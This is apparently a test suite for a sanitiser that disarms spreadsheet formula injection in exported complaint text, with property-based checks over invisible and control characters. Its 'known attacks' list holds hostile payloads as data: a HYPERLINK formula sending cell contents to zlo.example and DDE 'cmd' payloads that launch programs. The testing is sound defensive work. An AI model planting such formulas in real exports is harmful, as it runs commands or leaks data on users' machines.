import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cell } from '../../../shared/complaints/cell.ts'

const triggers = ['=', '+', '-', '@']

/** What a program may skip before it looks whether a text is a formula. */
const invisible: readonly (readonly [string, string])[] = [
  ['nothing', ''],
  ['a space', ' '],
  ['a tab', '\t'],
  ['a carriage return', '\r'],
  ['a line feed', '\n'],
  ['both line ends', '\r\n'],
  ['a vertical tab', '\v'],
  ['a form feed', '\f'],
  ['a null', '\0'],
  ['a bell', '\u0007'],
  ['an escape', '\u001b'],
  ['a delete', '\u007f'],
  ['a next line', '\u0085'],
  ['a hard space', '\u00a0'],
  ['a soft hyphen', '\u00ad'],
  ['a byte order mark', '\ufeff'],
  ['two byte order marks', '\ufeff\ufeff'],
  ['a byte order mark and a tab', '\ufeff\t'],
  ['a zero width space', '\u200b'],
  ['a zero width non-joiner', '\u200c'],
  ['a zero width joiner', '\u200d'],
  ['a word joiner', '\u2060'],
  ['a left-to-right mark', '\u200e'],
  ['a right-to-left override', '\u202e'],
  ['an isolate', '\u2066'],
  ['a thin space', '\u2009'],
  ['an ideographic space', '\u3000'],
  ['a line separator', '\u2028'],
  ['a paragraph separator', '\u2029'],
  ['a Mongolian vowel separator', '\u180e'],
  ['a combining grapheme joiner', '\u034f'],
  ['a variation selector', '\ufe0f'],
  ['a Hangul filler', '\u3164'],
  ['an empty Braille pattern', '\u2800'],
  ['a tag character', '\u{e0041}'],
  ['a lone surrogate', '\ud800'],
  ['all of it', ' \t\r\n\0\ufeff\u200b\u202e\u3000'],
]

describe.each(invisible)('after %s', (_name, before) => {
  it.each(triggers)('%s begins no formula', (trigger) => {
    expect(cell(`${before}${trigger}1+1`)).toMatch(/^'/)
  })

  it('words stay words', () => {
    expect(cell(`${before}Stížnost`)).toMatch(/Stížnost$/)
    expect(cell(`${before}Stížnost`)).not.toMatch(/^'/)
  })
})

describe('known attacks', () => {
  it.each([
    '=HYPERLINK("http://zlo.example?x="&A1,"klikněte")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '\ufeff=1+1',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '−1',
  ])('%j is disarmed and still says what it said', (attack) => {
    expect(cell(attack)).toBe(`'${attack}`)
  })
})

describe('words', () => {
  it.each([
    '',
    'Paní doktorka nepřišla.',
    '1. 3. 2026',
    '„uvozovky“',
    '(=)',
    'a=b',
    'viz @kraj',
    "'už s apostrofem",
    '–',
    '5-3',
    'První řádek.\nDruhý řádek.\t=konec',
    'Příliš žluťoučký kůň úpěl ďábelské ódy',
    '👩‍⚖️ soud',
  ])('%j are left alone', (words) => {
    expect(cell(words)).toBe(words)
  })
})

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is stripped
const CONTROLS = /^[\u0000-\u0020\u007f-\u00a0\ufeff]+/

describe('any text', () => {
  const anyText = fc.string({ unit: 'binary', maxLength: 40 })
  const anyBlank = fc.array(fc.constantFrom(...invisible.map(([, sign]) => sign)), { maxLength: 6 })

  it('never begins, past what cannot be seen, with the sign of a formula', () => {
    fc.assert(
      fc.property(anyBlank, fc.constantFrom(...triggers), anyText, (blanks, trigger, text) => {
        expect(cell(`${blanks.join('')}${trigger}${text}`)[0]).toBe("'")
      }),
      { numRuns: 2000 },
    )
  })

  it('begins as spreadsheets see it with no such sign: trimmed and stripped of control characters', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const seen = cell(text).trim().replace(CONTROLS, '')
        expect(/^[=+\-@]/.test(seen)).toBe(false)
      }),
      { numRuns: 2000 },
    )
  })

  it('fits into XML 1.0 and is not changed by writing it twice', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const once = cell(text)
        expect(cell(once)).toBe(once)
        expect(/^[\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u.test(once)).toBe(true)
      }),
      { numRuns: 2000 },
    )
  })
})
